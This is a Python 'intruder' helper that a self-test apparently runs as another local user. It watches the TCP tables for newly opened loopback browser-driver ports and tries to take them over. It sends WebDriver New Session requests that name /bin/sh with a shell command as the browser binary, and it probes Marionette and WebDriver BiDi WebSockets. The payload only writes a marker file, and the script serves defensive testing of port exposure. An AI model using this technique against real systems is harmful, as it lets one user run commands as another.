"""Another local user, racing a run for its browsers' ports: what e2e/selftest/test_private_net.py runs as uid 65534.

    python3 -c "$(cat intruder.py)" SECONDS OWNER_UID     (standard library only; prints one JSON line)

It stops after SECONDS, or as soon as its standard input closes (the test's run is over). Its first line says it
is watching ({"watching": N}, the listeners already there); each win is a JSON line as it happens ({"won": port,
"what": ...}); the last line sums up ({"seen": [...], "wins": {...}}).

It watches the machine's TCP tables (/proc/net/tcp and tcp6, world-readable) for every loopback listener
of OWNER_UID that appears after it starts, and asks each at once, and again while it lives, for what a
driver gives the first client: a WebDriver session (POST /session, the "binary" WebKitWebDriver starts
chosen by the asker), Marionette's greeting, a WebDriver BiDi WebSocket that answers a command (the site's
own WebSocket handshake, a 101 and a close, is none). Any such answer is a win: the listener would have let
this user drive the run's browser. It prints the ports it saw, the ones it won and what answered.
"""

import json
import os
import socket
import sys
import threading
import time

LISTEN = "0A"
POLL_SECONDS = 0.002
MARKER = "/tmp/cookie-lab-intruder-{pid}-{port}"  # what the intruder's command writes, as the run's user


def new_session(marker: str) -> bytes:
    """A WebDriver New Session whose "browser" is a command of the intruder's: it writes marker."""
    options = {"binary": "/bin/sh", "args": ["-c", f"echo won > {marker}"]}
    return json.dumps({"capabilities": {"alwaysMatch": {"webkitgtk:browserOptions": options}}}).encode()


def listeners(owner: int) -> set[int]:
    """Ports of owner's TCP listeners on loopback (127.0.0.0/8, ::1)."""
    found = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as listed:
                lines = listed.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            address, state, uid = fields[1], fields[3], int(fields[7])
            host, port = address.split(":")
            loopback = host.endswith("7F") or host == "00000000000000000000000001000000"
            if state == LISTEN and uid == owner and loopback:
                found.add(int(port, 16))
    return found


def _exchange(port: int, request: bytes | None, wait: float = 1.0, then: bytes | None = None) -> bytes:
    """What port answers request (then: sent once an answer has begun, as a WebSocket's first message is)."""
    with socket.create_connection(("127.0.0.1", port), timeout=wait) as sock:
        if request is not None:
            sock.sendall(request)
        chunks = b""
        try:
            while len(chunks) < 4096:
                chunk = sock.recv(4096)
                if not chunk:
                    break
                chunks += chunk
                if then is not None:
                    sock.sendall(then)
                    then = None
        except OSError:
            pass
        return chunks


def text_frame(text: str) -> bytes:
    """One masked WebSocket text frame (RFC 6455 section 5.2), as a client sends it; standard library only."""
    payload, mask = text.encode(), os.urandom(4)
    assert len(payload) < 126  # one short frame is all the intruder sends
    return bytes([0x81, 0x80 | len(payload)]) + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(payload))


def attack(port: int) -> str | None:
    """What a driver on port gave this user (a win), or None."""
    marker = MARKER.format(pid=os.getpid(), port=port)
    try:
        greeting = _exchange(port, None, wait=0.5)
        if b"marionetteProtocol" in greeting:
            return "marionette greeting: " + greeting[:120].decode(errors="replace")
        body = new_session(marker)
        webdriver = _exchange(
            port,
            b"POST /session HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nContent-Type: application/json"
            b"\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s" % (port, len(body), body),
        )
        if os.path.exists(marker):
            return f"ran a command as uid {os.stat(marker).st_uid}: {marker}"
        if b'"sessionId"' in webdriver:
            return "webdriver session: " + webdriver[:200].decode(errors="replace")
        upgrade = _exchange(
            port,
            b"GET /session HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: Upgrade\r\n"
            b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: "
            b"dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n" % port,
            then=text_frame(json.dumps({"id": 1, "method": "session.status", "params": {}})),
        )
        # A WebSocket that answers a WebDriver BiDi command: the site's own handshake (101, then a close) is none.
        if upgrade.startswith(b"HTTP/1.1 101") and b'"id":1' in upgrade.replace(b" ", b""):
            return "websocket upgrade: " + upgrade[:200].decode(errors="replace")
    except OSError:
        return None
    return None


def main(seconds: float, owner: int) -> dict[str, object]:
    before = listeners(owner)
    print(json.dumps({"watching": len(before)}), flush=True)  # from here on, every new listener is asked
    seen: set[int] = set()
    wins: dict[int, str] = {}
    lock = threading.Lock()

    def keep_asking(port: int) -> None:
        while port in listeners(owner) and time.monotonic() < deadline:
            won = attack(port)
            if won:
                with lock:
                    wins[port] = won
                    print(json.dumps({"won": port, "what": won}), flush=True)
                return
            time.sleep(0.2)  # asking again while it lives: a session may be free later too

    deadline = time.monotonic() + seconds
    stopped = threading.Event()

    def wait_for_stop() -> None:
        sys.stdin.read()
        stopped.set()

    threading.Thread(target=wait_for_stop, daemon=True).start()
    while time.monotonic() < deadline and not stopped.is_set():
        for port in listeners(owner) - before - seen:
            seen.add(port)
            threading.Thread(target=keep_asking, args=(port,), daemon=True).start()
        time.sleep(POLL_SECONDS)  # polling the tables, as an attacker would; bounded by the deadline
    with lock:
        return {"seen": sorted(seen), "wins": {str(p): w for p, w in sorted(wins.items())}}


if __name__ == "__main__":
    print(json.dumps(main(float(sys.argv[1]), int(sys.argv[2]))), flush=True)
